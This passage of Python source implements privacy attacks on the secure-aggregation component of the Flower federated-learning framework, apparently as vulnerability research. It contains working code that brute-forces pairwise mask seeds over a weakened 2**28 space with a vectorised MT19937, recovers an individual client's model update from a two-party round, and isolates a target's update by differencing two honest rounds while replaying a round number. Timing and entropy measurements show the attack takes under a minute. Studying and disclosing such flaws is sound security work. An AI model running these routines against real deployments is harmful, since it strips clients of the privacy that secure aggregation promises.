    (the exact call the mod makes for pairwise masks).

    Returns
    -------
    list of bytes
        44-byte base64 keys.
    """
    pairs = [generate_key_pairs() for _ in range(n_parties)]
    return [
        generate_shared_key(pairs[i][0], pairs[j][1])
        for i in range(n_parties)
        for j in range(i + 1, n_parties)
    ]


def victim_pairwise_seed_oracle(victim: Victim, peer_pk1: bytes) -> int:
    """TEST ORACLE ONLY: the true folded pairwise seed, read from private state.

    Reads the victim's ``sk1`` from its context (the mod's saved state). No
    attack calls this; tests use it to place a brute-force window of
    feasible size around the truth.
    """
    state = victim.context.state.config_records[RECORD_KEY_STATE]
    sk1 = cast(bytes, state["sk1"])
    return fold_seed(generate_shared_key(bytes_to_private_key(sk1), bytes_to_public_key(peer_pk1)))


def _free_bits(zero_mask: int) -> list[int]:
    return [b for b in range(32) if not (zero_mask >> b) & 1]


def candidate_seeds(zero_mask: int, start: int, count: int) -> NDArray[np.uint32]:
    """Seeds ``start .. start+count-1`` of the space with ``zero_mask`` bits cleared.

    Index ``k`` maps to the 32-bit seed whose free bits (those not in
    ``zero_mask``), read low to high, spell ``k`` (a bit "deposit"). For
    ``BASE64_ZERO_MASK`` the space has ``2**28`` seeds.

    Returns
    -------
    numpy.ndarray of uint32
        ``count`` candidate seeds.
    """
    free = _free_bits(zero_mask)
    if start < 0 or start + count > 1 << len(free):
        raise ValueError("window outside the candidate space")
    index = np.arange(start, start + count, dtype=np.uint64)
    seeds = np.zeros(count, dtype=np.uint64)
    for k, bit in enumerate(free):
        seeds |= ((index >> np.uint64(k)) & np.uint64(1)) << np.uint64(bit)
    return seeds.astype(np.uint32)


def candidate_index(seed32: int, zero_mask: int) -> int:
    """Inverse of :func:`candidate_seeds` for one seed (a bit "extract")."""
    if seed32 & zero_mask:
        raise ValueError("seed has bits set that the mask says are zero")
    return sum(((seed32 >> bit) & 1) << k for k, bit in enumerate(_free_bits(zero_mask)))


def mt19937_first_outputs(seeds: NDArray[np.uint32]) -> NDArray[np.uint32]:
    """First 32-bit output of ``np.random.RandomState(s)`` for every ``s``, vectorised.

    NumPy's legacy seeding is Matsumoto-Nishimura ``init_genrand``:
    ``mt[i] = 1812433253 * (mt[i-1] ^ (mt[i-1] >> 30)) + i``. The first output
    is the tempered ``mt[397] ^ twist(mt[0], mt[1])``, so only the first 398
    state words are needed, not all 624 plus a full twist per candidate.
    ``randint(0, 2**32 - 1, dtype=int64)`` returns this output unless it is
    ``0xFFFFFFFF`` (rejected and redrawn); :func:`bruteforce_pairwise_mask`
    re-checks such candidates with Flower's own generator.

    Parameters
    ----------
    seeds : numpy.ndarray of uint32
        Candidate 32-bit seeds.

    Returns
    -------
    numpy.ndarray of uint32
        First raw MT19937 output for each seed.
    """
    x = np.array(seeds, dtype=np.uint32)  # copy: updated in place below
    mt0 = x.copy()
    mt1 = x  # rebound at i == 1
    tmp = np.empty_like(x)
    for i in range(1, 398):
        np.right_shift(x, 30, out=tmp)
        np.bitwise_xor(x, tmp, out=x)
        np.multiply(x, _MT_MULT, out=x)  # uint32 arithmetic wraps mod 2**32, as in C
        np.add(x, np.uint32(i), out=x)
        if i == 1:
            mt1 = x.copy()
    y = (mt0 & np.uint32(0x80000000)) | (mt1 & np.uint32(0x7FFFFFFF))
    out = x ^ (y >> np.uint32(1))
    out ^= np.where((y & np.uint32(1)) == 1, np.uint32(0x9908B0DF), np.uint32(0))
    out ^= out >> np.uint32(11)
    out ^= (out << np.uint32(7)) & np.uint32(0x9D2C5680)
    out ^= (out << np.uint32(15)) & np.uint32(0xEFC60000)
    out ^= out >> np.uint32(18)
    return out


def bruteforce_pairwise_mask(
    masked_first_coord: int,
    known_first_value: int,
    candidates: NDArray[np.uint32],
    *,
    sign: int = 1,
    mod_range: int = 2**32,
    verify: Callable[[int], bool] | None = None,
    chunk: int = 1 << 16,
) -> int | None:
    """Find the folded pairwise seed that explains coordinate 0.

    In a round of two whose self masks the server already removed,
    coordinate 0 of a client's vector is ``known_first_value + sign * p0``
    (mod ``mod_range``), where ``known_first_value`` is the quantized weight
    (from the clear ``num_examples``) and ``p0`` the first pairwise-mask value,
    ``RandomState(seed32).randint(0, mod_range - 1)``.

    Parameters
    ----------
    masked_first_coord : int
        Coordinate 0 of the client's vector with only the pairwise mask left.
    known_first_value : int
        The client's ``q_ratio``.
    candidates : numpy.ndarray of uint32
        Seeds to try (e.g. a window of :func:`candidate_seeds`).
    sign : int
        ``+1`` if the client *added* the pairwise mask (its node ID is the
        larger), ``-1`` if it subtracted it.
    mod_range : int
        Modulus (power of two, at most ``2**32``).
    verify : callable, optional
        Extra check of a hit (a 32-bit match alone has a ``2**-32`` false
        positive rate per candidate, i.e. ~1/16 over the full ``2**28``).
    chunk : int
        Candidates per vectorised batch.

    Returns
    -------
    int or None
        The first candidate that matches (and passes ``verify``), else None.

    Notes
    -----
    Measured on the development VM (2 vCPUs, one used; numpy, CPython 3.11),
    see :func:`measure_candidate_cost`:

    - this scan (vectorised MT19937, batches of ``2**16``): 0.07-0.13 us per
      candidate, 94 ns over a ``2**22`` window, so ``2**28`` candidates take
      ~25-35 s, plus ~60 ns per candidate to enumerate them with
      :func:`candidate_seeds` (under a minute in all);
    - reseeding one ``np.random.RandomState`` per candidate: ~5 us
      (``2**28``: ~22 min);
    - calling Flower's own ``pseudo_rand_gen`` per candidate: ~73 us
      (``2**28``: ~5.5 h).

    Even the naive way is practical for a server; the full ``2**32`` space
    (e.g. a folded 32-byte ``rd_seed``) is only 16 times more.
    """
    if mod_range > 2**32 or mod_range & (mod_range - 1):
        raise ValueError("mod_range must be a power of two <= 2**32")
    target = (sign * (masked_first_coord - known_first_value)) % mod_range
    # randint(0, mod_range - 1) draws out & (mod_range - 1), rejecting mod_range - 1.
    low_bits = np.uint32(mod_range - 1)
    reject = mod_range - 1
    for begin in range(0, len(candidates), chunk):
        batch = np.asarray(candidates[begin : begin + chunk], dtype=np.uint32)
        first = mt19937_first_outputs(batch) & low_bits
        for pos in np.flatnonzero((first == target) | (first == reject)):
            seed32 = int(batch[pos])
            # Confirm with Flower's own generator (a 4-byte seed folds to itself).
            p0 = int(pseudo_rand_gen(seed32.to_bytes(4, "little"), mod_range, [(1,)])[0][0])
            if p0 == target and (verify is None or verify(seed32)):
                return seed32
    return None


def bruteforce_two_party_update(
    transcript: RoundTranscript,
    rd_seeds: Mapping[int, bytes],
    target: int,
    candidates: NDArray[np.uint32],
) -> FloatArrays | None:
    """Recover one client's update from an honest round of two by brute force.

    After an honest unmask of a two-client round the server holds both
    ``rd_seed`` values (and the aggregate); only the pairwise mask protects
    each individual vector. Its seed is a folded base64 key: ``2**28``
    possibilities. The server removes ``target``'s self mask, scans
    ``candidates`` for the seed whose first mask value explains coordinate
    0, checks that the whole unmasked vector is in the quantization range,
    and decodes it.

    Parameters
    ----------
    transcript : RoundTranscript
        The honest round (two clients).
    rd_seeds : mapping
        Self-mask seeds from the honest unmask.
    target : int
        Node whose update to recover.
    candidates : numpy.ndarray of uint32
        Folded seeds to scan (all ``2**28`` for a real attack).

    Returns
    -------
    list of numpy.ndarray or None
        ``target``'s update, or None if the seed is not among ``candidates``.
    """
    cfg = transcript.cfg
    peers = [nid for nid in transcript.key_views[target] if nid != target]
    if len(peers) != 1:
        raise ValueError("this brute force is for rounds of exactly two clients")
    (peer,) = peers
    shapes = transcript.shapes()
    residual = strip_masks(
        transcript.masked[target],
        target,
        flower_self_mask(rd_seeds[target], shapes, cfg.mod_range),
        {},
        cfg.mod_range,
    )
    q_ratio = transcript.q_ratio(target)

    def unmask_with(seed32: int) -> IntArrays:
        mask = pseudo_rand_gen(seed32.to_bytes(4, "little"), cfg.mod_range, shapes)
        return strip_masks(residual, target, None, {peer: mask}, cfg.mod_range)

    def verify(seed32: int) -> bool:
        vector = unmask_with(seed32)
        return int(vector[0][0]) == q_ratio and looks_quantized(vector, cfg)

    seed = bruteforce_pairwise_mask(
        int(residual[0][0]),
        q_ratio,
        candidates,
        sign=1 if target > peer else -1,
        mod_range=cfg.mod_range,
        verify=verify,
    )
    return None if seed is None else decode_individual(unmask_with(seed), cfg)


@dataclass(frozen=True)
class CandidateCost:
    """Measured cost of testing one brute-force candidate.

    Attributes
    ----------
    vectorised_s : float
        Seconds per candidate with :func:`mt19937_first_outputs`.
    reseed_s : float
        Seconds per candidate reseeding one ``np.random.RandomState``.
    flower_prg_s : float
        Seconds per candidate calling Flower's ``pseudo_rand_gen``.
    space : int
        Candidates in the full search (``2**28`` for base64 keys).
    """

    vectorised_s: float
    reseed_s: float
    flower_prg_s: float
    space: int = 2**28

    @property
    def full_scan_vectorised_s(self) -> float:
        """Extrapolated single-core time of the whole space, vectorised."""
        return self.vectorised_s * self.space

    @property
    def full_scan_reseed_s(self) -> float:
        """Extrapolated single-core time of the whole space, reseeding."""
        return self.reseed_s * self.space

    @property
    def full_scan_flower_prg_s(self) -> float:
        """Extrapolated single-core time of the whole space with ``pseudo_rand_gen``."""
        return self.flower_prg_s * self.space


def measure_candidate_cost(
    n_vectorised: int = 1 << 16, n_reseed: int = 1 << 12, n_flower: int = 1 << 10
) -> CandidateCost:
    """Time the three ways to test candidates (wall clock, this process).

    Returns
    -------
    CandidateCost
        Per-candidate seconds and the ``2**28`` extrapolations.
    """
    seeds = candidate_seeds(BASE64_ZERO_MASK, 0, max(n_vectorised, n_reseed, n_flower))

    start = time.perf_counter()
    mt19937_first_outputs(seeds[:n_vectorised])
    vectorised = (time.perf_counter() - start) / n_vectorised

    gen = np.random.RandomState(0)  # Flower's generator class, reseeded per candidate
    start = time.perf_counter()
    for s in seeds[:n_reseed]:
        gen.seed(int(s))
        gen.randint(0, 2**32 - 1, (1,), dtype=np.int64)
    reseed = (time.perf_counter() - start) / n_reseed

    start = time.perf_counter()
    for s in seeds[:n_flower]:
        pseudo_rand_gen(int(s).to_bytes(4, "little"), 2**32, [(1,)])
    flower = (time.perf_counter() - start) / n_flower
    return CandidateCost(vectorised, reseed, flower)


@dataclass(frozen=True)
class FoldEntropy:
    """How much seed the fold leaves for base64 pairwise keys.

    Attributes
    ----------
    n_keys : int
        Keys measured.
    zero_mask : int
        Bits 0 in every folded key (expected ``0x80808080``).
    free_bits : int
        ``32 - popcount(zero_mask)``: log2 of the search space.
    distinct : int
        Distinct folded values among the keys.
    observed_collisions : int
        Colliding pairs of folded values.
    expected_collisions_28 : float
        Colliding pairs expected if folds were uniform over ``2**28``.
    expected_collisions_32 : float
        Same for ``2**32`` (what a 32-bit seed would promise).
    lane_collision : tuple of float
        Estimated collision probability ``sum p**2`` of each byte lane
        (``1/128`` for a uniform 7-bit lane).
    collision_entropy_bits : float
        Renyi-2 entropy estimate of the fold, ``-sum log2(lane_collision)``
        (lanes are independent: they come from disjoint key characters).
    model_entropy_bits : float
        Exact Shannon entropy of the fold for uniformly random HKDF output
        (:func:`base64_fold_model_entropy`).
    """

    n_keys: int
    zero_mask: int
    free_bits: int
    distinct: int
    observed_collisions: int
    expected_collisions_28: float
    expected_collisions_32: float
    lane_collision: tuple[float, float, float, float]
    collision_entropy_bits: float
    model_entropy_bits: float


def _base64_char_distributions(key_len: int) -> list[NDArray[np.float64]]:
    """Distribution over byte values of each character of ``urlsafe_b64encode``."""
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    full = key_len // 3
    rest = key_len % 3
    dists: list[NDArray[np.float64]] = []

    def over(values: Sequence[int]) -> NDArray[np.float64]:
        dist = np.zeros(256)
        for v in values:
            dist[alphabet[v]] += 1.0 / len(values)
        return dist

    uniform = over(range(64))
    dists.extend([uniform] * (4 * full))
    if rest:
        # rest bytes = 8*rest bits over rest+1 chars; the last char carries
        # only the leftover high bits, so its low bits are 0.
        n_chars = rest + 1
        last_bits = 8 * rest - 6 * rest
        dists.extend([uniform] * rest)
        dists.append(over([v for v in range(64) if v % (1 << (6 - last_bits)) == 0]))
        pad = np.zeros(256)
        pad[ord("=")] = 1.0
        dists.extend([pad] * (4 - n_chars))
    return dists


def base64_fold_model_entropy(key_len: int = 32) -> float:
    """Exact Shannon entropy (bits) of ``fold_seed(urlsafe_b64encode(K))``.

    ``K`` is ``key_len`` uniform bytes (HKDF output). Characters of the
    encoding are independent; byte lane ``j`` of the fold is the XOR of the
    characters at positions ``j mod 4``. Each lane's distribution is the XOR
    convolution of its characters' distributions; lanes are independent, so
    entropies add.

    Returns
    -------
    float
        Entropy in bits (a bit under 28 for 32-byte keys).
    """
    dists = _base64_char_distributions(key_len)
    values = np.arange(256)
    total = 0.0
    for lane in range(4):
        acc = np.zeros(256)
        acc[0] = 1.0
        for dist in dists[lane::4]:
            nxt = np.zeros(256)
            for v in np.flatnonzero(dist):
                nxt[values ^ v] += acc * dist[v]
            acc = nxt
        p = acc[acc > 0]
        total += float(-(p * np.log2(p)).sum())
    return total


def fold_entropy(keys: Sequence[bytes]) -> FoldEntropy:
    """Measure the fold's always-zero bits, collisions and entropy over ``keys``.

    Parameters
    ----------
    keys : sequence of bytes
        Real pairwise keys (e.g. :func:`real_pairwise_keys`).

    Returns
    -------
    FoldEntropy
        Measurements against the ``2**28`` and ``2**32`` spaces.
    """
    folds = np.array([fold_seed(k) for k in keys], dtype=np.uint64)
    n = len(folds)
    mask = zero_bit_mask(keys)
    _, counts = np.unique(folds, return_counts=True)
    collisions = int((counts * (counts - 1) // 2).sum())
    pairs = n * (n - 1) / 2
    lanes: list[float] = []
    for lane in range(4):
        byte = ((folds >> np.uint64(8 * lane)) & np.uint64(0xFF)).astype(np.int64)
        c = np.bincount(byte, minlength=256).astype(np.float64)
        # Unbiased estimate of sum p**2 from pair counts.
        lanes.append(float((c * (c - 1)).sum() / (n * (n - 1))))
    free = 32 - bin(mask).count("1")
    return FoldEntropy(
        n_keys=n,
        zero_mask=mask,
        free_bits=free,
        distinct=len(counts),
        observed_collisions=collisions,
        expected_collisions_28=pairs / 2**28,
        expected_collisions_32=pairs / 2**32,
        lane_collision=(lanes[0], lanes[1], lanes[2], lanes[3]),
        collision_entropy_bits=float(-sum(math.log2(x) for x in lanes)),
        model_entropy_bits=base64_fold_model_entropy(),
    )


# ---------------------------------------------------------------------------
# Attack 4: differencing two honest rounds (and replaying the round number)
# ---------------------------------------------------------------------------


def differencing(
    victims: Sequence[Victim],
    target: int,
    cfg: SecAggConfig | None = None,
    group_ids: tuple[str, str] = ("1", "1"),
) -> FloatArrays:
    """Recover ``target``'s vector as the difference of two honest aggregates.

    Round 1 aggregates all ``victims``; round 2 the same victims without
    ``target``. Both rounds are played honestly: every check the clients make
    passes. With equal weights, the aggregate is the mean, so
    ``n1 * mean1 - n2 * mean2`` is ``target``'s vector. By default the second
    round reuses the first round's ``group_id``: the stock client accepts a
    fresh setup for an already-finished round number.

    Parameters
    ----------
    victims : sequence of Victim
        All of them must report the same ``num_examples`` (e.g. ``max_weight``,
        as an evaluation-style vector would), so the mean is ``sum / n``.
    target : int
        Node ID left out of round 2.
    cfg : SecAggConfig, optional
        Round-1 parameters; round 2 uses the same with ``sample_num`` reduced.
    group_ids : tuple of str
        Group IDs of the two rounds.

    Returns
    -------
    list of numpy.ndarray
        ``target``'s vector (float64), within a few quantization steps.
    """
    cfg = cfg or SecAggConfig(sample_num=len(victims))
    if len({v.num_examples for v in victims}) != 1:
        raise ValueError("differencing by cohort size needs equal weights")
    rest = [v for v in victims if v.node_id != target]
    _, first = honest_round(victims, replace(cfg, sample_num=len(victims)), group_ids[0])
    _, second = honest_round(rest, replace(cfg, sample_num=len(rest)), group_ids[1])
    return [
        len(victims) * a - len(rest) * b
        for a, b in zip(first.aggregate, second.aggregate, strict=True)
    ]
